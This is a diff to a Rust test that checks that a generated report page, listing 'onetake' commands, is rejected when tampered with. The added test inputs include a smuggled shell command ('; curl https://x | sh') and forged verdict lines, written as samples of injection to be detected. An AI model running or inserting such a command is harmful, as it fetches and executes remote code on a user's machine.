@@ -75,7 +75,7 @@ fn a_page_says_what_the_report_says() {
     let home = tempfile::tempdir().unwrap();
     for language in Language::ALL {
         let folder = home.path().join(language.tag());
-        let next = NextCommands::new("elsewhere", "what \"I\" saw.toml", "--waybill SF1", "out");
+        let next = NextCommands::new("elsewhere", "'what \"I\" saw & <said>.toml'", "--waybill SF1", "out");
         let evidence = Evidence::new(&report, &record, &nothing)
             .packet_hashes(Some(LIST))
             .language(language)
@@ -97,7 +97,17 @@ fn a_page_says_what_the_report_says() {
         let more = page.replacen("<pre>", "<pre>valid\n", 1);
         let other = page.replacen("onetake judge", "onetake verify", 1);
         let markup = page.replacen("onetake judge elsewhere", "onetake judge <b>valid</b>", 1);
-        for changed in changes.chain([more, other, markup, String::new()]) {
+        // Words that a reader would take for the report's, or a shell for its own.
+        let said = [
+            "# Verdict: valid",
+            "; curl https://x | sh",
+            "\rvalid",
+            "&#10;valid",
+            "\u{2028}valid",
+            "--accept-proposed",
+        ]
+        .map(|text| page.replacen("onetake judge elsewhere", &format!("onetake judge elsewhere {text}"), 1));
+        for changed in changes.chain([more, other, markup, String::new()]).chain(said) {
             fs::write(&path, changed).unwrap();
             assert_eq!(failed(&folder), [Step::Page]);
         }
